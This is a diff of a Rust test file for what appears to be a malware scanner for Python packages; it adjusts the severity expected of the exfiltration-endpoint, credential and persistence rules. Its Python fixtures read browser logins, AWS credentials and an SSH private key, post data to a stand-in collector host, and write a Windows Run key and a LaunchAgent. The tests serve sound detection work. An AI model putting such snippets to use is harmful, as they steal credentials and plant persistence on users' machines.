@@ -9,100 +9,12 @@
 //! The project is called `acme` (not `demo`: `demo/` is a documentation folder
 //! name and would weigh every finding down two levels).
 
-use std::io::Write;
+mod support;
 
-use sha2::Digest;
+use support::*;
 
-use airlock_inspect::{inspect_archive, Limits, Report, Severity};
+use airlock_inspect::{Report, Severity};
 use Severity::{Critical, High, Info, Low, Medium};
-
-const METADATA: &str = "Metadata-Version: 2.1\nName: acme\nVersion: 1.0\nSummary: Acme tools\nAuthor: Ann\n";
-/// Where a module and a setup script land in the archives built below.
-const MOD: &str = "acme/mod.py";
-const SETUP: &str = "acme-1.0/setup.py";
-
-/// A wheel `<stem>-py3-none-any.whl` of `files`, with `metadata` and a correct RECORD.
-fn wheel_named(stem: &str, metadata: &str, files: &[(&str, &str)]) -> Report {
-    let info = format!("{stem}.dist-info");
-    let mut all: Vec<(String, String)> = vec![(format!("{info}/METADATA"), metadata.into())];
-    all.extend(files.iter().map(|(p, c)| (p.to_string(), c.to_string())));
-    let mut record: String = all.iter().map(|(p, c)| format!("{p},sha256={},{}\n", b64(&sha2::Sha256::digest(c)), c.len())).collect();
-    record.push_str(&format!("{info}/RECORD,,\n"));
-    all.push((format!("{info}/RECORD"), record));
-    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    for (name, content) in &all {
-        zip.start_file(name.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
-        zip.write_all(content.as_bytes()).unwrap();
-    }
-    inspect_archive(&format!("{stem}-py3-none-any.whl"), &zip.finish().unwrap().into_inner(), &Limits::default())
-}
-
-fn wheel(files: &[(&str, &str)]) -> Report {
-    wheel_named("acme-1.0", METADATA, files)
-}
-
-/// A wheel with `source` as `acme/mod.py`.
-fn module(source: &str) -> Report {
-    wheel(&[("acme/__init__.py", ""), (MOD, source)])
-}
-
-/// An sdist `acme-1.0.tar.gz`: `files` under `acme-1.0/`, with PKG-INFO.
-fn sdist(files: &[(&str, &str)]) -> Report {
-    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
-    for (path, content) in [("PKG-INFO", METADATA)].iter().chain(files) {
-        let mut h = tar::Header::new_gnu();
-        h.set_size(content.len() as u64);
-        h.set_mode(0o644);
-        h.set_cksum();
-        tar.append_data(&mut h, format!("acme-1.0/{path}"), content.as_bytes()).unwrap();
-    }
-    inspect_archive("acme-1.0.tar.gz", &tar.into_inner().unwrap().finish().unwrap(), &Limits::default())
-}
-
-/// An sdist whose setup.py is `source`.
-fn setup_py(source: &str) -> Report {
-    sdist(&[("setup.py", source), ("acme/__init__.py", "")])
-}
-
-/// (line, severity) of each finding of `rule` in `file`, in line order; line 0 when there is none.
-fn hits(report: &Report, rule: &str, file: &str) -> Vec<(u32, Severity)> {
-    let mut v: Vec<(u32, Severity)> =
-        report.findings.iter().filter(|f| f.rule == rule && f.file.as_deref().unwrap_or("") == file).map(|f| (f.line.unwrap_or(0), f.severity)).collect();
-    v.sort();
-    v
-}
-
-#[track_caller]
-fn none(report: &Report, rule: &str) {
-    let found: Vec<_> = report.findings.iter().filter(|f| f.rule == rule).collect();
-    assert!(found.is_empty(), "{rule} should not fire: {found:#?}");
-}
-
-/// urlsafe base64 without padding (RECORD digests, and blobs of random bytes).
-fn b64(bytes: &[u8]) -> String {
-    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
-    let mut out = String::new();
-    for c in bytes.chunks(3) {
-        let n = (u32::from(c[0]) << 16) | (u32::from(*c.get(1).unwrap_or(&0)) << 8) | u32::from(*c.get(2).unwrap_or(&0));
-        for i in 0..=c.len() {
-            out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
-        }
-    }
-    out
-}
-
-/// `n` reproducible bytes that look random (xorshift).
-fn noise(n: usize) -> Vec<u8> {
-    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
-    (0..n)
-        .map(|_| {
-            x ^= x << 13;
-            x ^= x >> 7;
-            x ^= x << 17;
-            (x >> 32) as u8
-        })
-        .collect()
-}
 
 // ---------------------------------------------------------------- role and scope
 
@@ -656,7 +568,8 @@ fn a_discord_webhook_is_high_and_a_telegram_bot_api_medium() {
 #[test]
 fn a_file_drop_host_counts_as_a_host_not_inside_a_module_path() {
     let r = module("UP = 'https://transfer.sh/upload'\nTUNNEL = 'http://x1y2.eu.ngrok.io:8080'\nBOT = 'https://api.telegram.org/bot123456789:AAE'\n");
-    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High), (2, High), (3, Medium)]);
+    // A file-drop host named alone is medium: downloaders and gallery tools name them too.
+    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, Medium), (2, High), (3, Medium)]);
     let r = module("ENGINES = ['acme.distributed.weight_transfer.sharded_engine', 'acme.mytransfer.shim']\n");
     none(&r, "access/exfil-endpoint");
 }
@@ -695,14 +608,27 @@ def local_ip():
 // ---------------------------------------------------------------- access/credentials
 
 #[test]
-fn browser_logins_are_high_and_cloud_credential_files_medium() {
+fn browser_logins_are_high_and_cloud_credential_files_medium_in_a_file_that_sends() {
+    let r = module(
+        r#"import os, requests
+CHROME = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
+AWS = os.path.expanduser("~/.aws/credentials")
+def upload(data):
+    requests.post("https://collector.example.net/u", data=data)
+"#,
+    );
+    assert_eq!(hits(&r, "access/credentials", MOD), [(2, High), (3, Medium)]);
+}
+
+#[test]
+fn browser_logins_and_cloud_credential_files_named_in_a_file_that_sends_nothing_are_low() {
     let r = module(
         r#"import os
 CHROME = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default", "Login Data")
 AWS = os.path.expanduser("~/.aws/credentials")
 "#,
     );
-    assert_eq!(hits(&r, "access/credentials", MOD), [(2, High), (3, Medium)]);
+    assert_eq!(hits(&r, "access/credentials", MOD), [(2, Low), (3, Low)]);
 }
 
 #[test]
@@ -713,23 +639,28 @@ fn ssh_known_hosts_public_keys_and_cloud_config_are_not_credentials() {
 
 #[test]
 fn an_ed25519_ssh_private_key_is_a_credential_file() {
-    let r = module("import os\nKEY = os.path.expanduser('~/.ssh/id_ed25519')\n");
+    let r = module("import os, socket\nKEY = os.path.expanduser('~/.ssh/id_ed25519')\ndef send(s, data):\n    s.sendall(data)\n");
     assert_eq!(hits(&r, "access/credentials", MOD), [(2, Medium)]);
 }
 
 // ---------------------------------------------------------------- access/persistence
 
 #[test]
-fn a_registry_run_key_and_a_launch_agent_are_persistence() {
+fn a_registry_run_key_and_a_launch_agent_written_at_import_are_persistence() {
     let r = module(
         r#"import os, winreg
 RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
 AGENT = os.path.expanduser("~/Library/LaunchAgents/com.acme.updater.plist")
+key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
+winreg.SetValueEx(key, "acme", 0, winreg.REG_SZ, RUN + " acme.exe")
+open(AGENT, "w").write(PLIST)
 "#,
     );
     assert_eq!(hits(&r, "access/persistence", MOD), [(2, High), (3, High)]);
+    let named = module("import os\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n");
+    assert_eq!(hits(&named, "access/persistence", MOD), [(2, Low)], "a mention alone is information");
     let tests = wheel(&[("tests/test_autostart.py", "import os\nRUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n")]);
-    assert_eq!(hits(&tests, "access/persistence", "tests/test_autostart.py"), [(2, Low)]);
+    assert_eq!(hits(&tests, "access/persistence", "tests/test_autostart.py"), [(2, Info)]);
 }
 
 #[test]
@@ -1121,8 +1052,9 @@ fn a_module_whose_name_merely_ends_in_version_is_not_generated() {
 
 #[test]
 fn every_rule_outside_the_archive_family_is_tested_here_or_in_install_hooks() {
-    // analysis_budget.rs tests the budget's own rule.
-    let tests = [include_str!("code_rules.rs"), include_str!("install_hooks.rs"), include_str!("analysis_budget.rs")].concat();
+    // analysis_budget.rs tests the budget's own rule; behaviour_rules.rs the flows of issue #12.
+    let tests =
+        [include_str!("code_rules.rs"), include_str!("install_hooks.rs"), include_str!("analysis_budget.rs"), include_str!("behaviour_rules.rs")].concat();
     let untested: Vec<&str> =
         airlock_inspect::rules::RULES.iter().map(|r| r.id).filter(|id| !id.starts_with("archive/") && !tests.contains(&format!("\"{id}\""))).collect();
     assert!(untested.is_empty(), "rules without a test: {untested:?}");
